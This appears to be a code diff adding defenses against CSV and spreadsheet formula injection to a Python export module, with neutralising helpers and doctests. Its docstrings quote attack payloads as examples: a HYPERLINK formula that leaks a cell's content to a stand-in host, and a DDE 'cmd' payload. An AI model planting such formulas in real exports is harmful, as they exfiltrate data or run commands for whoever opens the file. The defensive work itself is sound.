@@ -1,14 +1,28 @@
-"""Atomic writes: a killed stage leaves no half-written file or folder behind."""
+"""Atomic writes: a killed stage leaves no half-written file or folder behind.
+
+And formula-safe exports: every CSV and XLSX written for people to open goes through
+`write_csv`, `write_xlsx` or `csv_text`, so that an enterprise named
+``=HYPERLINK("http://x"&B4,"x")`` is shown by a spreadsheet, never run by it (CSV
+injection; `formula_safe_text` says what is neutralised and why). Files that programs read
+back as data (a delivery for ingestion, the messy test input) are written raw, with a comment
+saying so where they are written.
+"""
 
 from __future__ import annotations
 
+import datetime as dt
 import json
+import numbers
 import os
+import re
 import shutil
 from collections.abc import Callable, Iterator
 from contextlib import contextmanager
+from io import StringIO
 from pathlib import Path
+from typing import Any
 
+import pandas as pd
 import pyarrow as pa
 import pyarrow.parquet as pq
 
@@ -59,3 +73,117 @@ def atomic_write(path: Path, write: Callable[[Path], object]) -> None:
     tmp = path.with_name(f".{path.stem}.tmp{path.suffix}")
     write(tmp)
     os.replace(tmp, path)
+
+
+# OWASP (CSV injection): a cell starting with one of these is read as a formula by some
+# spreadsheet application; tab and carriage return because some strip them and evaluate what
+# follows.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+# A signed number is a value, not a formula: "-12.5" and "+86" are left as they are.
+_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+
+
+# How the CSVs are written. Never the index. Rows end in CRLF (RFC 4180, as Excel writes
+# them): the csv module quotes a field holding any character of the line terminator, and a
+# bare carriage return left unquoted ends the row in Excel and LibreOffice, so that
+# "ACME\r=1+1" would put a live "=1+1" at the start of a new row.
+_CSV: dict[str, Any] = {"index": False, "lineterminator": "\r\n"}
+
+
+def formula_safe_text(text: str) -> str:
+    """``text`` with a leading apostrophe if a spreadsheet could take it for a formula.
+
+    Prefixed: text starting with ``= + - @``, a tab or a carriage return, and text whose
+    first character after leading whitespace is one of ``= + - @`` (some applications trim
+    the cell before they evaluate it, so ``"  =1+1"`` is as live as ``"=1+1"``). Not
+    prefixed: a plain signed number (``-12.5``, ``+86``, surrounding spaces allowed), which
+    is a value, not a formula (a tab or carriage return before a number is still prefixed).
+    Idempotent: text already starting with ``'`` is never prefixed again, so a file read back
+    and exported once more does not gather apostrophes.
+
+    >>> formula_safe_text("=1+1"), formula_safe_text(" @SUM(A1)"), formula_safe_text("-12.5")
+    ("'=1+1", "' @SUM(A1)", '-12.5')
+    >>> formula_safe_text(formula_safe_text("-2+3+cmd|' /C calc'!A0"))
+    "'-2+3+cmd|' /C calc'!A0"
+    """
+    if not (text.startswith(_FORMULA_START) or text.lstrip().startswith(_FORMULA_START[:4])):
+        return text
+    if _NUMBER.fullmatch(text.strip(" ")):
+        return text
+    return "'" + text
+
+
+def _safe_cell(value: Any) -> Any:
+    """One cell or header: text neutralised; numbers, booleans, dates and missing as they are;
+    any other object (a tuple, a custom type) by the text the CSV writer would give it."""
+    if isinstance(value, str):
+        return formula_safe_text(value)
+    if value is None or isinstance(value, numbers.Number | dt.date | dt.time | dt.timedelta):
+        return value  # bool, numpy numbers, Decimal, datetime, pd.Timestamp, NaN, NaT
+    if pd.api.types.is_scalar(value) and pd.isna(value):
+        return value  # pd.NA and the like
+    text = str(value)
+    safe = formula_safe_text(text)
+    return value if safe == text else safe
+
+
+def formula_safe(frame: pd.DataFrame) -> pd.DataFrame:
+    """A new frame whose text cells and column names cannot run as spreadsheet formulas.
+
+    Text columns (object, string and categorical dtypes) go through `formula_safe_text`
+    cell by cell (the OWASP recommendation: a leading apostrophe); numeric, boolean and
+    datetime columns are left alone, missing values stay missing, and the caller's frame is
+    not touched. The index is not changed: the writers here never write it.
+
+    >>> raw = pd.DataFrame({"name": ["=1+1", "+86", None], "=total": [1.5, -2.0, 3.0]})
+    >>> safe = formula_safe(raw)
+    >>> safe["name"].tolist()[:2], bool(safe["name"].isna().iloc[2])
+    (["'=1+1", '+86'], True)
+    >>> list(safe.columns), list(raw.columns)
+    (['name', "'=total"], ['name', '=total'])
+    """
+    out = frame.copy()
+    for i, dtype in enumerate(out.dtypes):
+        if not (pd.api.types.is_string_dtype(dtype) or isinstance(dtype, pd.CategoricalDtype)):
+            continue
+        column = out.iloc[:, i]
+        safe = column.map(_safe_cell, na_action="ignore")
+        if not (pd.api.types.is_object_dtype(dtype) or isinstance(dtype, pd.CategoricalDtype)):
+            safe = safe.astype(dtype)  # a string column stays a string column
+        out.isetitem(i, safe)
+    return out.rename(columns=_safe_cell)
+
+
+def csv_text(frame: pd.DataFrame, **kw: Any) -> str:
+    """The frame as formula-safe CSV text (`write_csv`'s rows), for a download built in
+    memory; ``kw`` goes to `pandas.DataFrame.to_csv`."""
+    buf = StringIO()
+    formula_safe(frame).to_csv(buf, **_CSV, **kw)
+    return buf.getvalue()
+
+
+def write_csv(frame: pd.DataFrame, path: Path, *, encoding: str = "utf-8-sig", **kw: Any) -> None:
+    """The frame as a formula-safe CSV, written atomically. UTF-8 with a BOM by default: Excel
+    then reads the Chinese text right. ``kw`` goes to `pandas.DataFrame.to_csv`."""
+    safe = formula_safe(frame)
+    atomic_write(Path(path), lambda p: safe.to_csv(p, encoding=encoding, **_CSV, **kw))
+
+
+def write_xlsx(frame: pd.DataFrame, path: Path, *, sheet_name: str = "Sheet1") -> None:
+    """The frame as a formula-safe workbook, written atomically, without the index.
+
+    Besides the apostrophe of `formula_safe`, every text cell is stored as a string cell with
+    the text number format ``@``: openpyxl would otherwise store any text starting with
+    ``=`` as a formula, so even a value the prefix rule let through stays text."""
+    safe = formula_safe(frame)
+
+    def write(tmp: Path) -> None:
+        with pd.ExcelWriter(tmp, engine="openpyxl") as xw:
+            safe.to_excel(xw, index=False, sheet_name=sheet_name)
+            for row in xw.sheets[sheet_name].iter_rows():
+                for cell in row:
+                    if isinstance(cell.value, str) and cell.value:  # "": a missing value
+                        cell.data_type = "s"
+                        cell.number_format = "@"
+
+    atomic_write(Path(path), write)
